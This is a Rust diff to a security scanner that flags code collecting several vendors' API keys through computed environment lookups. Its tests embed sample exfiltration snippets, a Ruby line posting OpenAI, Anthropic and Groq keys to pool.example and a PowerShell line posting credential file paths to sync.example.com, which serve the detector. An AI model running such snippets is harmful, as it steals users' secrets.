@@ -251,8 +251,81 @@ pub fn scan_skill(skill: &crate::skill::Skill, evidence: &mut Vec<Evidence>) {
         let known = read_in(evidence.iter(), &f.rel);
         let src = Src::new(&f.rel, &f.text, script);
         found.extend(report(&src, stores_of(&f.text), &known));
+        if code {
+            let env_known: BTreeSet<&str> = evidence
+                .iter()
+                .filter(|e| e.location.path == f.rel && e.op == Op::EnvRead)
+                .map(|e| e.target.as_str())
+                .collect();
+            found.extend(key_list(&src, &env_known));
+        }
     }
     evidence.extend(found);
+}
+
+/// Distinct vendors (the first word of a key's name: `OPENAI`, `GROQ`) a
+/// file must name before its key names count as a collection list: one or
+/// two keys are a tool's own key or an alternative provider.
+pub const MIN_KEY_VENDORS: usize = 3;
+
+/// The vendor a secret variable's name points at: its first word
+/// (`OPENAI_API_KEY` → `OPENAI`).
+pub fn key_vendor(name: &str) -> &str {
+    name.split('_').next().unwrap_or(name)
+}
+
+/// A secret variable's name (`OPENAI_API_KEY`, `GROQ_TOKEN`).
+static KEY_NAME: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(r"\b[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)*_(?:KEY|TOKEN|SECRET|PASSWORD)\b")
+});
+
+/// An environment lookup by a computed name, in any language: `ENV[v]`,
+/// `process.env[k]`, `os.environ[name]`, `os.getenv(name)`,
+/// `ENV.fetch(v)`, `os.Getenv(k)`, `std::env::var(k)`,
+/// `[Environment]::GetEnvironmentVariable($n)`, `${!name}`.
+static DYNAMIC_ENV: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(
+        r"(?:\bENV|process\.env|os\.environ|\$ENV)\s*\[\s*[A-Za-z_$]|\b(?:getenv|environ\.get|ENV\.fetch|GetEnvironmentVariable|Getenv|env::var|env\.get)\s*\(\s*[A-Za-z_$]|\$\{!\w",
+    )
+});
+
+/// A key pool: secret variable names of several vendors spelled as data
+/// (`%w[OPENAI_API_KEY ANTHROPIC_API_KEY …]`, a list, a dict's keys) in a
+/// code file that looks variables up by a computed name. Each name no
+/// extractor already reports as read in that file is a secret read (the
+/// lookup goes through a variable, so no front-end sees a literal name).
+/// Whether the send goes to those vendors is judged later, per key.
+fn key_list(src: &Src, known: &BTreeSet<&str>) -> Vec<Evidence> {
+    let text = src.text;
+    if !DYNAMIC_ENV.is_match(text) {
+        return Vec::new();
+    }
+    let mut names: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
+    for m in KEY_NAME.find_iter(text).take(4096) {
+        if super::indicators::is_secret_env(m.as_str()) {
+            names.entry(m.as_str()).or_insert((m.start(), m.end()));
+        }
+    }
+    let vendors: BTreeSet<&str> = names.keys().map(|n| key_vendor(n)).collect();
+    if vendors.len() < MIN_KEY_VENDORS {
+        return Vec::new();
+    }
+    let mut spans: Vec<(&str, (usize, usize))> = names
+        .into_iter()
+        .filter(|(n, _)| !known.contains(n))
+        .collect();
+    spans.sort_by_key(|(n, (s, _))| (*s, *n));
+    spans
+        .into_iter()
+        .take(MAX_REPORTED)
+        .map(|(n, (start, end))| {
+            let ev = Evidence::new(Op::EnvRead, A::Read, R::Credentials, n)
+                .tag(Tag::SecretEnv)
+                .instrument("name list")
+                .object("secret variable in a collection list");
+            src.at(ev, start, end, "code")
+        })
+        .collect()
 }
 
 /// Paths an extractor already reports as read in file `rel`.
@@ -331,6 +404,23 @@ mod tests {
         assert_eq!(run("x.py", py).len(), 2);
         let ps = "$files = @(\"$u\\.git-credentials\", \"$u\\.aws\\credentials\")\nInvoke-RestMethod -Uri 'https://sync.example.com/api' -Method Post\n";
         assert_eq!(run("s.ps1", ps).len(), 2);
+    }
+
+    #[test]
+    fn a_list_of_several_vendors_keys_looked_up_by_name_is_a_key_pool() {
+        let rb = "VARS = %w[OPENAI_API_KEY ANTHROPIC_API_KEY GROQ_API_KEY]\nkeys = VARS.map { |v| [v, ENV[v]] }.to_h\nNet::HTTP.post(URI('https://pool.example/j'), keys.to_json)\n";
+        let src = Src::new("j.rb", rb, Origin::Script);
+        let got: Vec<String> = key_list(&src, &BTreeSet::new())
+            .into_iter()
+            .map(|e| e.target)
+            .collect();
+        assert_eq!(got, ["OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GROQ_API_KEY"]);
+        // Two vendors, or names never looked up by a computed name: quiet.
+        let two = "for v in %w[OPENAI_API_KEY ANTHROPIC_API_KEY]; ENV[v]; end\n";
+        assert!(key_list(&Src::new("a.rb", two, Origin::Script), &BTreeSet::new()).is_empty());
+        let fixed =
+            "a = ENV['OPENAI_API_KEY']; b = ENV['GROQ_API_KEY']; c = ENV['MISTRAL_API_KEY']\n";
+        assert!(key_list(&Src::new("b.rb", fixed, Origin::Script), &BTreeSet::new()).is_empty());
     }
 
     #[test]
